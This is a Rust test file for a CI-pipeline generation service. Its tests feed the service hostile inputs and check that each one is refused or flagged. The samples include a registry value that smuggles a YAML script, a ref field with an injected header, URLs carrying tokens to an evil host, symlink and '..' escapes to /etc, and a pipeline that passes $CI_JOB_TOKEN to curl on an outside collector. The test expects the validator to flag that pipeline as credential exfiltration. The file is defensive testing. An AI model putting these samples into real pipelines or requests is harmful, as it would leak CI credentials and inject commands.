//! Hostile input against the real service (issue 16): each test reproduces one way a client
//! or an operator's setting could break `pipewright serve`, and checks the refusal.

mod serve_support;

use serde_json::{json, Value};
use serve_support::{spawn, spawn_with, Options};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn error_of(body: &Value) -> &Value {
    body.get("error")
        .unwrap_or_else(|| panic!("not an error answer: {body}"))
}

/// Starts `pipewright serve` expecting it to refuse to start; its exit code and stderr.
fn start_refused(env: &[(&str, &str)]) -> (Option<i32>, String) {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut command = Command::new(env!("CARGO_BIN_EXE_pipewright"));
    command
        .args(["serve", "--listen", "127.0.0.1:0"])
        .current_dir(dir.path())
        .env("PIPEWRIGHT_DATA_DIR", dir.path().join("data"))
        .env("LLM_PROVIDER", "none")
        .env_remove("GITLAB_URL")
        .env_remove("GITLAB_TOKEN")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in env {
        command.env(k, v);
    }
    let mut child = command.spawn().expect("start pipewright serve");
    let started = Instant::now();
    loop {
        if let Ok(Some(_)) = child.try_wait() {
            break;
        }
        if started.elapsed() > Duration::from_secs(30) {
            let _ = child.kill();
            panic!("pipewright serve did not refuse to start within 30 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = child.wait_with_output().expect("output");
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

#[test]
fn api_tokens_of_only_separators_refuse_to_start() {
    for value in [" , ", ",", " ,, "] {
        let (code, stderr) = start_refused(&[("PIPEWRIGHT_API_TOKENS", value)]);
        assert_eq!(code, Some(2), "exit code for {value:?}; stderr: {stderr}");
        assert!(
            stderr.contains("PIPEWRIGHT_API_TOKENS holds only separators"),
            "{stderr}"
        );
    }
}

fn flask() -> Value {
    json!({
        "app.py": "from flask import Flask\napp = Flask(__name__)\n",
        "requirements.txt": "flask==3.0.3\n",
    })
}

#[tokio::test]
async fn bad_settings_are_422_naming_the_setting_not_500() {
    let server = spawn();
    let all_stages = json!([
        "compile", "build", "test", "sast", "quality", "security", "push", "notify", "learn"
    ]);
    let cases = [
        (
            json!({ "image_path": "noseps{registry}{image}{tag}" }),
            "settings.image_path",
        ),
        (
            json!({ "image_path": "https://{registry}/{image}:{tag}" }),
            "settings.image_path",
        ),
        (json!({ "pull_registry": "a\nb" }), "settings.pull_registry"),
        (
            json!({ "internal_registry": "nexus:5001\n  script: [evil]" }),
            "settings.internal_registry",
        ),
        (json!({ "skip_stages": all_stages }), "settings.skip_stages"),
        (
            json!({ "image_name": "x".repeat(300) }),
            "settings.image_name",
        ),
        (
            json!({ "allow_hosts": ["a\nb"] }),
            "settings.allow_hosts[0]",
        ),
        (json!({ "allow_hosts": ["a b"] }), "settings.allow_hosts"),
    ];
    for (settings, field) in cases {
        let (status, body) = server
            .call(
                "/api/v1/pipeline/generate",
                &json!({ "files": flask(), "use_template_only": true, "settings": settings }),
            )
            .await;
        assert_eq!(status, 422, "{settings}: {body}");
        assert_eq!(error_of(&body)["field"], field, "{body}");
        assert_eq!(error_of(&body)["code"], "invalid_field", "{body}");
    }
    // A library has no build, security or push job: skipping all the others leaves nothing.
    let library = json!({
        "Cargo.toml": "[package]\nname = \"lib\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[lib]\n",
        "src/lib.rs": "pub fn answer() -> u32 { 42 }\n",
    });
    let (status, body) = server
        .call(
            "/api/v1/pipeline/generate",
            &json!({ "files": library, "use_template_only": true,
                     "settings": { "skip_stages": ["compile", "test", "sast", "quality", "notify", "learn"] } }),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(error_of(&body)["field"], "settings.skip_stages", "{body}");
    // Ordinary settings still generate.
    let (status, body) = server
        .call(
            "/api/v1/pipeline/generate",
            &json!({ "files": flask(), "use_template_only": true,
                     "settings": { "pull_registry": "nexus.example.com:5002", "image_path": "{registry}/team/{image}:{tag}", "skip_stages": ["sast"] } }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
}

/// A secret in every place a URL can carry one.
const URL_SECRET: &str = "S3CR3T-glpat";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_in_urls_reach_no_answer_log_or_run_record() {
    use pipewright_adapters::fake_gitlab::{FakeGitLab, FAKE_TOKEN};
    let gitlab = FakeGitLab::start().await.expect("fake GitLab");
    let files = serve_support::fixture_files("python-flask-pip");
    let pairs: Vec<(&str, &str)> = files
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str().unwrap_or_default()))
        .collect();
    gitlab.add_project("team/app", &pairs);
    let options = Options::default()
        .env("GITLAB_URL", &gitlab.url())
        .env("GITLAB_TOKEN", FAKE_TOKEN);
    let server = tokio::task::spawn_blocking(move || spawn_with(options))
        .await
        .expect("spawn");
    let s = URL_SECRET;
    let host = gitlab.url().trim_start_matches("http://").to_string();
    let urls = [
        // off the configured GitLab: refused (400) with the URL in the message
        format!("https://user:{s}@gitlab.evil.example/team/app"),
        format!("https://user:pa/{s}@gitlab.evil.example/team/app"),
        format!("https://gitlab.evil.example/team/app?private_token={s}"),
        format!("https://gitlab.evil.example/team/app?ref=main&access_token={s}"),
        format!("https://gitlab.evil.example/team/app#{s}"),
        // on the configured GitLab: the run is recorded with the URL
        format!("http://user:pa/{s}@{host}/team/app"),
        format!("http://{host}/team/app?private_token={s}"),
        format!("http://{host}/team/app?token={s}#access_token={s}"),
    ];
    for url in &urls {
        let (status, body) = server
            .call(
                "/api/v1/pipeline/workflow",
                &json!({ "repository_url": url, "use_template_only": true, "monitor": false }),
            )
            .await;
        assert!(
            !body.to_string().contains(s),
            "{url} answered {status}: {body}"
        );
    }
    let (status, runs) = server.get_json("/api/v1/pipeline/runs?limit=100").await;
    assert_eq!(status, 200, "{runs}");
    let listed = runs["runs"].as_array().expect("runs");
    assert!(
        !listed.is_empty(),
        "the workflow requests were recorded: {runs}"
    );
    assert!(!runs.to_string().contains(s), "{runs}");
    for run in listed {
        let id = run["id"].as_str().expect("run id");
        let (_, full) = server
            .get_json(&format!("/api/v1/pipeline/runs/{id}"))
            .await;
        assert!(!full.to_string().contains(s), "{full}");
    }
    assert!(!server.log().contains(s), "{}", server.log());
    let data = server.data_dir.path().join("data");
    for entry in walk(&data) {
        let bytes = std::fs::read(&entry).unwrap_or_default();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(s),
            "{} holds the secret",
            entry.display()
        );
    }
}

/// Every file under `dir`.
fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                out.extend(walk(&path));
            } else {
                out.push(path);
            }
        }
    }
    out
}

/// The size of every file under `dir`, summed.
fn folder_bytes(dir: &std::path::Path) -> u64 {
    walk(dir)
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| m.len())
        .sum()
}

#[tokio::test]
async fn huge_or_multi_line_fields_are_refused_before_being_stored_logged_or_echoed() {
    let server = spawn();
    let data = server.data_dir.path().join("data");
    let huge = "q".repeat(4 * 1024 * 1024);
    let before = folder_bytes(&data);
    let cases = [
        (
            "/api/v1/pipeline/workflow",
            json!({ "project_id": huge }),
            "project_id",
        ),
        (
            "/api/v1/pipeline/workflow",
            json!({ "project_id": "team/app", "branch": huge }),
            "branch",
        ),
        (
            "/api/v1/pipeline/workflow",
            json!({ "repository_url": huge }),
            "repository_url",
        ),
        (
            "/api/v1/pipeline/workflow",
            json!({ "project_id": "team/app", "ref": "main\nX-Injected: 1" }),
            "ref",
        ),
        (
            "/api/v1/pipeline/generate",
            json!({ "files": flask(), "settings": { "image_name": huge } }),
            "settings.image_name",
        ),
        (
            "/api/v1/pipeline/generate",
            json!({ "files": { "a\nb.py": "print(1)\n" } }),
            "files[…]",
        ),
        ("/api/v1/pipeline/analyze", json!({ "path": huge }), "path"),
    ];
    for (route, body, field) in cases {
        let (status, answer) = server.call(route, &body).await;
        assert_eq!(status, 422, "{route} {field}: {answer}");
        assert_eq!(error_of(&answer)["field"], field, "{answer}");
        assert!(
            answer.to_string().len() < 2048,
            "the value is not echoed: {} bytes",
            answer.to_string().len()
        );
    }
    let (status, answer) = server
        .get_json(&format!(
            "/api/v1/pipeline/runs?project={}",
            "p".repeat(8 * 1024)
        ))
        .await;
    assert_eq!(status, 422, "{answer}");
    assert_eq!(error_of(&answer)["field"], "project", "{answer}");
    let grown = folder_bytes(&data).saturating_sub(before);
    assert!(grown < 1024 * 1024, "the data folder grew by {grown} bytes");
    assert!(
        !server.log().contains(&"q".repeat(1024)),
        "the value is not logged"
    );
}

/// A raw TCP connection to the server.
fn connect(server: &serve_support::Server) -> std::net::TcpStream {
    let addr = server.base.trim_start_matches("http://");
    let stream = std::net::TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("read timeout");
    stream
}

/// Reads until the server closes the connection; what it sent and how long that took. Panics
/// when the server keeps it open for 10 s.
fn read_until_closed(stream: &mut std::net::TcpStream) -> (String, Duration) {
    use std::io::Read;
    let started = Instant::now();
    let mut received = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(n) => received.extend_from_slice(&buffer[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break,
            Err(e) => panic!(
                "the server kept the connection open for {:?} ({e}); received {:?}",
                started.elapsed(),
                String::from_utf8_lossy(&received)
            ),
        }
    }
    (
        String::from_utf8_lossy(&received).into_owned(),
        started.elapsed(),
    )
}

#[test]
fn silent_half_sent_and_idle_connections_are_closed_after_the_header_timeout() {
    use std::io::Write;
    let server = spawn_with(Options::default().arg("--header-read-timeout").arg("1"));
    // Connected, nothing sent.
    let mut silent = connect(&server);
    let (_, took) = read_until_closed(&mut silent);
    assert!(took < Duration::from_secs(5), "silent: {took:?}");
    // Half a request head, never finished.
    let mut half = connect(&server);
    half.write_all(b"GET /health HTTP/1.1\r\nHost: pipewright\r\nX-Slow: ")
        .expect("write");
    let (_, took) = read_until_closed(&mut half);
    assert!(took < Duration::from_secs(5), "half-sent: {took:?}");
    // One full request on a keep-alive connection, then idle.
    let mut idle = connect(&server);
    idle.write_all(b"GET /health HTTP/1.1\r\nHost: pipewright\r\n\r\n")
        .expect("write");
    let (answer, took) = read_until_closed(&mut idle);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(
        took < Duration::from_secs(5),
        "idle after a request: {took:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_beyond_the_cap_are_answered_503_and_health_recovers() {
    let server = tokio::task::spawn_blocking(|| {
        spawn_with(
            Options::default()
                .arg("--max-connections")
                .arg("4")
                .arg("--header-read-timeout")
                .arg("3"),
        )
    })
    .await
    .expect("spawn");
    let idle: Vec<_> = (0..4).map(|_| connect(&server)).collect();
    std::thread::sleep(Duration::from_millis(300));
    let mut over = connect(&server);
    let (answer, took) = read_until_closed(&mut over);
    assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
    assert!(answer.contains("\"code\":\"overloaded\""), "{answer}");
    assert!(answer.contains("--max-connections"), "{answer}");
    assert!(took < Duration::from_secs(2), "answered at once: {took:?}");
    // The idle ones run out of time; then /health answers again.
    std::thread::sleep(Duration::from_secs(4));
    let (status, body) = server.get_json("/health").await;
    assert_eq!(status, 200, "{body}");
    drop(idle);
}

#[tokio::test]
async fn a_six_thousand_line_export_chain_is_validated_not_timed_out() {
    // Reversed, the order that made each round of the old tracing learn one name: minutes of
    // CPU, a 504, and work that went on after it.
    let mut script = String::new();
    for i in (1..6_000).rev() {
        script.push_str(&format!("    - export V{i}=\"$V{}\"\n", i - 1));
    }
    let pipeline = format!(
        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n{script}    - export V0=\"$CI_JOB_TOKEN\"\n    - 'curl -H \"X-Token: $V5999\" https://collector.example.com'\n"
    );
    let server = spawn_with(Options::default().arg("--request-timeout").arg("60"));
    let (status, body) = server
        .call(
            "/api/v1/pipeline/validate",
            &json!({ "gitlab_ci": pipeline }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let findings = body["findings"].as_array().expect("findings");
    assert!(
        findings
            .iter()
            .any(|f| f["rule"] == "credential-exfiltration"
                && f["message"]
                    .as_str()
                    .unwrap_or("")
                    .contains("from $CI_JOB_TOKEN")),
        "{body}"
    );
}

#[tokio::test]
async fn local_paths_are_read_only_inside_the_allowed_folders() {
    let root = tempfile::tempdir().expect("temp dir");
    let root_path = std::fs::canonicalize(root.path()).expect("canonical");
    let app = root_path.join("app");
    std::fs::create_dir(&app).expect("app folder");
    std::fs::write(app.join("requirements.txt"), "flask==3.0.3\n").expect("write");
    std::fs::write(app.join("app.py"), "from flask import Flask\n").expect("write");
    std::os::unix::fs::symlink("/", root_path.join("escape")).expect("link");
    let allowed = root_path.to_str().expect("UTF-8").to_string();
    let server = spawn_with(Options::default().arg("--allow-local-paths").arg(&allowed));
    let analyze = |path: String| {
        let server = &server;
        async move {
            let started = Instant::now();
            let (status, body) = server
                .call("/api/v1/pipeline/analyze", &json!({ "path": path }))
                .await;
            (status, body, started.elapsed())
        }
    };
    let (status, body, _) = analyze(app.to_str().unwrap().to_string()).await;
    assert_eq!(status, 200, "{body}");
    // The whole disk (26 s of walking before), another folder, a link out, `..` out.
    for (path, expected) in [
        ("/".to_string(), 403),
        ("/etc".to_string(), 403),
        (format!("{allowed}/escape"), 403),
        (format!("{allowed}/escape/etc"), 403),
        (format!("{allowed}/../"), 422),
        ("relative/app".to_string(), 422),
    ] {
        let (status, body, took) = analyze(path.clone()).await;
        assert_eq!(status, expected, "{path}: {body}");
        assert_eq!(error_of(&body)["field"], "path", "{body}");
        assert!(took < Duration::from_secs(5), "{path}: refused in {took:?}");
    }
}

#[test]
fn allowed_local_folders_must_exist() {
    let dir = tempfile::tempdir().expect("temp dir");
    let missing = dir.path().join("missing");
    let mut command = Command::new(env!("CARGO_BIN_EXE_pipewright"));
    let output = command
        .args(["serve", "--listen", "127.0.0.1:0", "--allow-local-paths"])
        .arg(&missing)
        .env("PIPEWRIGHT_DATA_DIR", dir.path().join("data"))
        .env("LLM_PROVIDER", "none")
        .env_remove("PIPEWRIGHT_API_TOKENS")
        .stdin(Stdio::null())
        .output()
        .expect("run");
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("--allow-local-paths"));
}

/// The reversed export chain of `lines` lines ending in `$CI_JOB_TOKEN`: minutes to hours of
/// CPU for the old credential tracing.
fn export_chain_pipeline(lines: usize) -> String {
    let mut script = String::with_capacity(lines * 32);
    for i in (1..lines).rev() {
        script.push_str(&format!("    - export V{i}=\"$V{}\"\n", i - 1));
    }
    format!(
        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n{script}    - export V0=\"$CI_JOB_TOKEN\"\n"
    )
}

/// CPU time (user + system) the process has used, in clock ticks.
fn cpu_ticks(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("/proc/<pid>/stat");
    let after_name = &stat[stat.rfind(')').expect("stat format") + 2..];
    let fields: Vec<&str> = after_name.split_whitespace().collect();
    // utime and stime are fields 14 and 15 of the line, 12 and 13 after the name.
    fields[11].parse::<u64>().expect("utime") + fields[12].parse::<u64>().expect("stime")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn work_past_its_time_limit_stops_and_sigterm_stops_the_server_within_20_s() {
    // 130,000 chained exports (3.9 MB, under the validator's 4 MiB): seconds of CPU even when
    // linear in a debug build, so the 1 s limit answers 504 while the work runs.
    let pipeline = json!({ "gitlab_ci": export_chain_pipeline(130_000) });
    let server = tokio::task::spawn_blocking(|| {
        spawn_with(Options::default().arg("--request-timeout").arg("1"))
    })
    .await
    .expect("spawn");
    let (status, body) = server.call("/api/v1/pipeline/validate", &pipeline).await;
    assert_eq!(status, 504, "{body}");
    assert_eq!(error_of(&body)["code"], "timeout", "{body}");
    // Before, the work went on at 95 % CPU for minutes after the 504. Now the server is idle
    // soon after: a whole second with less than 0.2 s of CPU, within 20 s.
    let started = Instant::now();
    loop {
        let before = cpu_ticks(server.pid());
        tokio::time::sleep(Duration::from_secs(1)).await;
        let used = cpu_ticks(server.pid()) - before;
        if used < 20 {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "the server still works at {used} ticks/s {:?} after the 504",
            started.elapsed()
        );
    }
    let (status, _) = server.get_json("/health").await;
    assert_eq!(status, 200);
    drop(server);

    // SIGTERM while such a request is in flight: before, the server waited for it (minutes).
    let mut server = tokio::task::spawn_blocking(|| {
        spawn_with(Options::default().arg("--request-timeout").arg("600"))
    })
    .await
    .expect("spawn");
    let client = server.client.clone();
    let url = server.url("/api/v1/pipeline/validate");
    let in_flight = tokio::spawn(async move { client.post(url).json(&pipeline).send().await });
    tokio::time::sleep(Duration::from_millis(500)).await;
    server.terminate();
    let exited = tokio::task::spawn_blocking(move || {
        let status = server.wait_exit(Duration::from_secs(20));
        (status, server)
    })
    .await
    .expect("wait");
    let (status, server) = exited;
    assert!(
        status.is_some(),
        "SIGTERM did not stop the server within 20 s; its log:\n{}",
        server.log()
    );
    // The request was either answered in the grace or answered 503 when its work was
    // cancelled; never left without an answer while the server still ran.
    let _ = in_flight.await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn under_a_256_descriptor_limit_300_idle_connections_do_not_silence_health() {
    use std::io::Write;
    // The default --max-connections (512) is over what 256 descriptors allow: before, accept
    // failed (EMFILE) and /health waited unanswered in the kernel's queue.
    let server = tokio::task::spawn_blocking(|| {
        spawn_with(
            Options::default()
                .descriptor_limit(256)
                .arg("--header-read-timeout")
                .arg("8"),
        )
    })
    .await
    .expect("spawn");
    assert!(
        server.log().contains("--max-connections lowered"),
        "{}",
        server.log()
    );
    let idle: Vec<_> = (0..300).map(|_| connect(&server)).collect();
    std::thread::sleep(Duration::from_millis(500));
    let mut health = connect(&server);
    health
        .write_all(b"GET /health HTTP/1.1\r\nHost: pipewright\r\nConnection: close\r\n\r\n")
        .expect("write");
    let (answer, took) = read_until_closed(&mut health);
    assert!(
        answer.starts_with("HTTP/1.1 503") || answer.starts_with("HTTP/1.1 200"),
        "{answer}"
    );
    assert!(took < Duration::from_secs(2), "answered in {took:?}");
    // Once the idle ones are closed for their silence, /health is served again.
    std::thread::sleep(Duration::from_secs(9));
    let (status, body) = server.get_json("/health").await;
    assert_eq!(status, 200, "{body}");
    drop(idle);
}
